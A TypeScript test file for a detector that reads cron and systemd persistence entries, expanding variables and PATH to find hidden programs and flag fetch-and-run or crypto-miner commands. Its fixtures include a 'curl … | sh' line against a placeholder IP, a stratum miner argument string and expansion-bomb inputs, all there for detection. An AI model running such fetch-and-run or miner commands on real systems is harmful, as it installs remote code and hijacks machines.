/** Entries read with the variables, the folder and the PATH that their mechanism gives them. */
import { describe, expect, test } from 'bun:test';
import type { PersistenceFact } from '../../model/facts/persistence.ts';
import { text } from '../facts.fixture.ts';
import { entryFact } from '../persistence/entry.fixture.ts';
import { candidatesOf, type EntryReading, readEntry } from './read-entry.ts';

const reading = (
  command: string,
  environment: Readonly<Record<string, string>>,
  parts: Partial<PersistenceFact> = {},
): EntryReading =>
  readEntry(
    entryFact(command, {
      environment: Object.entries(environment).map(([name, value]) => ({ name, value: text(value) })),
      ...parts,
    }),
  );
const targets = (...given: Parameters<typeof reading>): readonly string[] =>
  reading(...given).targets.map(String);
const signs = (...given: Parameters<typeof reading>): readonly string[] =>
  reading(...given).signs.map(({ id }) => id);

describe('a shell expands what it is given', () => {
  test('a folder, a command, an address, and only once', () => {
    expect(targets('$X/run', { X: '/tmp/.x' })).toEqual(['/tmp/.x/run']);
    expect(signs('$C $U | $S', { C: 'curl -s', U: 'http://192.0.2.1/a', S: 'sh' })).toEqual([
      'fetch-and-run',
    ]);
    expect(signs('eval "$X"', { X: 'curl -s http://192.0.2.1/a | sh' })).toEqual(['fetch-and-run']);
    // Cron expands nothing, and the shell does not expand what came out of an expansion.
    expect(targets('$Y/run', { X: '/tmp/.x', Y: '$X/y' })).toEqual([]);
  });

  test('what its own line sets comes after what it is given', () => {
    expect(targets('X=/opt; $X/run', { X: '/tmp' })).toEqual(['/opt/run']);
  });

  test('a relative program lies where the entry begins', () => {
    expect(targets('./run', { PWD: '/tmp/.x' })).toEqual(['/tmp/.x/run']);
    expect(targets('./run', {})).toEqual([]);
  });
});

describe('systemd expands words', () => {
  const argv = { language: 'argv' } as const;

  test('in braces within a word, bare as a word that is split, and a doubled sign not at all', () => {
    expect(targets(`/bin/sh -c 'exec \${P}/m'`, { P: '/var/lib/.x' }, argv)).toEqual([
      '/bin/sh',
      '/var/lib/.x/m',
    ]);
    expect(targets('/usr/bin/env $P', { P: '/dev/shm/m -o x' }, argv)).toEqual([
      '/usr/bin/env',
      '/dev/shm/m',
    ]);
    expect(signs("/bin/sh -c '$C'", { C: 'curl -s http://192.0.2.1/a | sh' }, argv)).toEqual([
      'fetch-and-run',
    ]);
    expect(targets("/bin/sh -c 'exec $$P/m'", { P: '/tmp' }, argv)).toEqual(['/bin/sh', '/tmp/m']);
  });

  test('a miner whose options stand in another file is one', () => {
    const options = '-o stratum+tcp://pool.example:3333 -u w -k';
    expect(signs('/opt/svc/run $OPTIONS', { OPTIONS: options }, argv)).toEqual(['miner-command']);
    expect(signs('/opt/svc/run $OPTIONS', { OPTIONS: '--port 8080 --user app' }, argv)).toEqual([]);
  });
});

describe('PATH', () => {
  const sought = (command: string, PATH: string): readonly string[] =>
    candidatesOf(reading(command, { PATH })).map(String);

  test('says where a program without a path may lie', () => {
    expect(sought('netsync -d', '/dev/shm/.k:/usr/bin')[0]).toBe('/dev/shm/.k/netsync');
    expect(sought('netsync -d', '/opt/app/bin:/usr/bin')[0]).toBe('/opt/app/bin/netsync');
    expect(sought('netsync -d', '/usr/bin')).not.toContain('/dev/shm/.k/netsync');
  });

  test('whose folder is odd may hold programs under the names of the system', () => {
    expect(sought('curl -s http://192.0.2.1/', '/tmp:/usr/bin')).toEqual(['/tmp/curl']);
    expect(sought('curl -s http://192.0.2.1/', '/opt/curl/bin:/usr/bin')).toEqual([]);
  });

  test('of a hundred thousand folders ends', () => {
    const many = Array.from({ length: 2000 }, (_, at) => `/tmp/${at}`).join(':');
    expect(sought('a; b; c; netsync', many).length).toBeLessThan(2000);
  });
});

test('variables that hold each other, bombs and names of the reader itself end', () => {
  const bomb = {
    A: '$B$B$B',
    B: '$A$A$A',
    IFS: '/',
    PATH: ':::',
    PWD: 'x',
    HOME: '',
    '@': 'x',
    BASH: '$BASH',
  };
  expect(reading('eval "eval $A"; $BASH; cd; ./x', bomb).signs).toEqual([]);
  const big = Object.fromEntries(Array.from({ length: 256 }, (_, at) => [`V${at}`, 'x'.repeat(8192)]));
  expect(
    reading(
      `eval "${Object.keys(big)
        .map((name) => `$${name}`)
        .join('')}"`,
      big,
    ).signs,
  ).toEqual([]);
});
